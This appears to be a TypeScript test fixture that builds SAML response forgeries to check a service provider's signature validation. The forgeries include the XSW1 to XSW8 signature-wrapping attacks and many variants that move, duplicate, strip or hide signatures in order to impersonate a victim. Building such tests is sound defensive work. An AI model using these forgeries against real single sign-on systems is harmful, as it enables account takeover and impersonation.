/**
 * Forged SAML responses. The valid signature covers a different element, belongs to another part of the document, or is
 * missing. The first eight are named after the paper "On Breaking SAML: Be Whoever You Want to Be".
 */
import type { Changes } from '../support/identity-provider.ts';

/** Email address of the user whom the attacker impersonates. */
export const VICTIM_EMAIL = 'ceo@corp.example';

export interface Forgery {
  name: string;
  /** Changes that the identity provider itself signs. */
  changes?: Changes;
  /** Changes that the attacker's browser makes. */
  alter?: (response: string) => string;
}

export const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
export const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const NAME_ID = /(<saml:NameID[^>]*>)[^<]+/g;

export const match = (pattern: RegExp, text: string) => pattern.exec(text)?.[0] ?? '';

/** Replaces each NameID with the victim's, which the signature does not cover. */
export const insertVictim = (document: string) => document.replace(NAME_ID, `$1${VICTIM_EMAIL}`);

/** Returns the element with the victim's NameID and another ID, and without the signature. */
const forge = (element: string, id = '_evil') =>
  insertVictim(element.replace(SIGNATURE, '')).replace(/ID="[^"]+"/, `ID="${id}"`);

/** Replaces the assertion with the result of `change`. */
const replaceAssertion = (change: (assertion: string) => string) => (response: string) =>
  response.replace(ASSERTION, change);

const insert = (tag: string, insertion: string) => (response: string) =>
  response.replace(tag, () => `${insertion}${tag}`);

/** Puts the forged assertion around the original signature, and the original inside that signature. */
function wrapInSignature(assertion: string, wrap: (original: string) => string): string {
  const original = wrap(assertion.replace(SIGNATURE, ''));
  const wrapper = match(SIGNATURE, assertion).replace('</ds:Signature>', () => `${original}</ds:Signature>`);
  return forge(assertion).replace('</saml:Issuer>', () => `</saml:Issuer>${wrapper}`);
}

/** Replaces the assertion with a forged one, and moves the signed one into an element of the response. */
const moveInto = (element: string) => (response: string) => {
  const original = match(ASSERTION, response);
  return insert(
    '<samlp:Status>',
    `<samlp:${element}>${original}</samlp:${element}>`,
  )(response.replace(original, () => forge(original)));
};

const CLASSIC_WRAPPINGS: Forgery[] = [
  {
    name: 'XSW1: the signed response inside the signature of a forged one',
    changes: { signed: 'response' },
    alter: (response) => {
      const original = response.replace(SIGNATURE, '');
      const wrapper = match(SIGNATURE, response).replace(
        '</ds:Signature>',
        () => `<ds:Object>${original}</ds:Object></ds:Signature>`,
      );
      return forge(response).replace('</saml:Issuer>', () => `</saml:Issuer>${wrapper}`);
    },
  },
  {
    name: 'XSW2: the signed response before its signature in a forged one',
    changes: { signed: 'response' },
    alter: (response) => {
      const original = `${response.replace(SIGNATURE, '')}${match(SIGNATURE, response)}`;
      return forge(response).replace('</saml:Issuer>', () => `</saml:Issuer>${original}`);
    },
  },
  {
    name: 'XSW3: a forged assertion before the signed one',
    alter: replaceAssertion((assertion) => `${forge(assertion)}${assertion}`),
  },
  {
    name: 'XSW4: the signed assertion inside a forged one',
    alter: replaceAssertion((assertion) => insert('</saml:Assertion>', assertion)(forge(assertion))),
  },
  {
    name: 'XSW5: a forged assertion with the signature, and the original at the end',
    alter: replaceAssertion((assertion) => {
      const signature = match(SIGNATURE, assertion);
      const forged = forge(assertion).replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
      return `${forged}${assertion.replace(SIGNATURE, '')}`;
    }),
  },
  {
    name: 'XSW6: the original inside the signature of a forged assertion',
    alter: replaceAssertion((assertion) => wrapInSignature(assertion, (original) => original)),
  },
  {
    name: 'XSW7: a forged assertion in the extensions',
    alter: (response) =>
      insert('<samlp:Status>', `<samlp:Extensions>${forge(match(ASSERTION, response))}</samlp:Extensions>`)(response),
  },
  {
    name: 'XSW8: the original in an object of the signature of a forged assertion',
    alter: replaceAssertion((assertion) =>
      wrapInSignature(assertion, (original) => `<ds:Object>${original}</ds:Object>`),
    ),
  },
];

const id = (element: string) => /ID="([^"]+)"/.exec(element)?.[1] ?? '';

const OTHER_WRAPPINGS: Forgery[] = [
  { name: 'the signed assertion moved into the extensions', alter: moveInto('Extensions') },
  { name: 'the signed assertion moved into a status detail', alter: moveInto('StatusDetail') },
  { name: 'the signed assertion moved into another response', alter: moveInto('Response') },
  { name: 'the signed assertion moved into an EncryptedAssertion', alter: moveInto('EncryptedAssertion') },
  {
    name: 'a forged assertion after the signed one',
    alter: replaceAssertion((assertion) => `${assertion}${forge(assertion)}`),
  },
  {
    name: 'a forged assertion under the id of the signed one, before it',
    alter: replaceAssertion((assertion) => `${forge(assertion, id(assertion))}${assertion}`),
  },
  {
    name: 'a forged assertion under the id of the signed one, after it',
    alter: replaceAssertion((assertion) => `${assertion}${forge(assertion, id(assertion))}`),
  },
  {
    name: 'a forged assertion in the advice of the signed one',
    alter: replaceAssertion((assertion) =>
      insert('<saml:AuthnStatement', `<saml:Advice>${forge(assertion)}</saml:Advice>`)(assertion),
    ),
  },
  {
    name: 'the signed assertion in the advice of a forged one',
    alter: replaceAssertion((assertion) =>
      insert('<saml:AuthnStatement', `<saml:Advice>${assertion}</saml:Advice>`)(forge(assertion)),
    ),
  },
  {
    name: 'the original in the signature key of a forged assertion',
    alter: replaceAssertion((assertion) =>
      wrapInSignature(assertion, (original) => `<ds:KeyInfo>${original}</ds:KeyInfo>`),
    ),
  },
  {
    name: 'the signed assertion in an attribute value of a forged one',
    alter: replaceAssertion((assertion) =>
      insert(
        '</saml:Assertion>',
        `<saml:AttributeStatement><saml:Attribute Name="x"><saml:AttributeValue>${assertion}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
      )(forge(assertion)),
    ),
  },
  {
    name: 'the id of the signed assertion on a different element',
    alter: replaceAssertion((assertion) => `<saml:Evidence ID="${id(assertion)}"/>${forge(assertion, id(assertion))}`),
  },
  ...['Id', 'id', 'xml:id'].map((name) => ({
    name: `a forged assertion with its signature, found by ${name}`,
    alter: replaceAssertion((assertion: string) => {
      const forged = insertVictim(assertion).replace(`ID="${id(assertion)}"`, `ID="_evil" ${name}="${id(assertion)}"`);
      return forged;
    }),
  })),
  ...['samlp', 'evil'].map((prefix) => ({
    name: `a forged assertion in the namespace of ${prefix} before the signed one`,
    alter: replaceAssertion((assertion: string) => {
      const forged = forge(assertion).replaceAll(/(<\/?)saml:Assertion/g, `$1${prefix}:Assertion`);
      return `${forged.replace(' ID=', ' xmlns:evil="urn:evil" ID=')}${assertion}`;
    }),
  })),
  {
    name: 'a forged assertion with a prefix that the response redefines',
    alter: (response) => response.replace('<saml:Assertion ', '<saml:Assertion xmlns:saml="urn:evil" '),
  },
  {
    name: 'the signed response inside a forged one',
    changes: { signed: 'response' },
    alter: (response) => insert('<samlp:Status>', response)(forge(response)),
  },
  {
    name: 'a forged response inside the signed one',
    changes: { signed: 'response' },
    alter: (response) => insert('<samlp:Status>', forge(response))(response),
  },
  {
    name: 'a forged assertion added to the signed response',
    changes: { signed: 'response' },
    alter: replaceAssertion((assertion) => `${forge(assertion)}${assertion}`),
  },
  {
    name: 'the signed response in a SOAP envelope',
    changes: { signed: 'response' },
    alter: (response) =>
      `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>${response}</soap:Body></soap:Envelope>`,
  },
  { name: 'two responses, one after the other', alter: (response) => `${forge(response)}${response}` },
];

const SIGNATURE_CHANGES: Forgery[] = [
  { name: 'without any signature', changes: { signed: 'nothing' } },
  { name: 'with the signature removed', alter: (response) => response.replace(SIGNATURE, '') },
  {
    name: 'with both signatures removed',
    changes: { signed: 'both' },
    alter: (response) => response.replace(SIGNATURE, '').replace(SIGNATURE, ''),
  },
  ...(['assertion', 'response', 'both'] as const).map((signed) => ({
    name: `renamed after signing: ${signed}`,
    changes: { signed },
    alter: insertVictim,
  })),
  {
    name: 'a validly signed assertion in an invalidly signed response',
    changes: { signed: 'both' },
    alter: (response) => response.replace('<samlp:Status>', '<samlp:Status Id="_changed">'),
  },
  {
    name: 'an invalidly signed assertion in a validly signed response',
    changes: {
      signed: 'response',
      edited: (response) =>
        insert(
          '<saml:Subject>',
          `<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#${id(match(ASSERTION, response))}"><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>AAAA</ds:SignatureValue></ds:Signature>`,
        )(response),
    },
  },
  {
    name: 'a duplicate signature of the assertion',
    alter: (response) => response.replace(SIGNATURE, (signature) => `${signature}${signature}`),
  },
  {
    name: 'a duplicate signature of the response',
    changes: { signed: 'response' },
    alter: (response) => response.replace(SIGNATURE, (signature) => `${signature}${signature}`),
  },
  {
    name: 'the signature of the assertion copied to the response',
    alter: (response) => response.replace('</saml:Issuer>', () => `</saml:Issuer>${match(SIGNATURE, response)}`),
  },
  {
    name: 'the signature of the assertion moved to the response',
    alter: (response) =>
      response.replace(SIGNATURE, '').replace('</saml:Issuer>', () => `</saml:Issuer>${match(SIGNATURE, response)}`),
  },
  {
    name: 'the signature of the response moved to the assertion',
    changes: { signed: 'response' },
    alter: (response) => insert('<saml:Subject>', match(SIGNATURE, response))(response.replace(SIGNATURE, '')),
  },
  ...['Status', 'Extensions'].map((element) => ({
    name: `the signature moved into ${element}`,
    alter: (response: string) =>
      insert(
        '<saml:Assertion ',
        `<samlp:${element}>${match(SIGNATURE, response)}</samlp:${element}>`,
      )(response.replace(SIGNATURE, '')),
  })),
  {
    name: 'the signature moved into the subject',
    alter: (response) =>
      response.replace(SIGNATURE, '').replace('</saml:Subject>', () => `${match(SIGNATURE, response)}</saml:Subject>`),
  },
  {
    name: 'the signature inside a signature',
    alter: (response) => response.replace(SIGNATURE, (signature) => insert('</ds:Signature>', signature)(signature)),
  },
  {
    name: 'a signature in another namespace',
    alter: (response) =>
      response.replace('xmlns:ds="http://www.w3.org/2000/09/xmldsig#"', 'xmlns:ds="http://www.w3.org/2000/09/xmldsig"'),
  },
  {
    name: 'an empty signature',
    alter: (response) => response.replace(SIGNATURE, '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>'),
  },
  {
    name: 'a signature in a comment',
    alter: (response) => response.replace(SIGNATURE, (signature) => `<!--${signature}-->`),
  },
];

export const SIGNATURE_WRAPPINGS: Forgery[] = [...CLASSIC_WRAPPINGS, ...OTHER_WRAPPINGS, ...SIGNATURE_CHANGES];
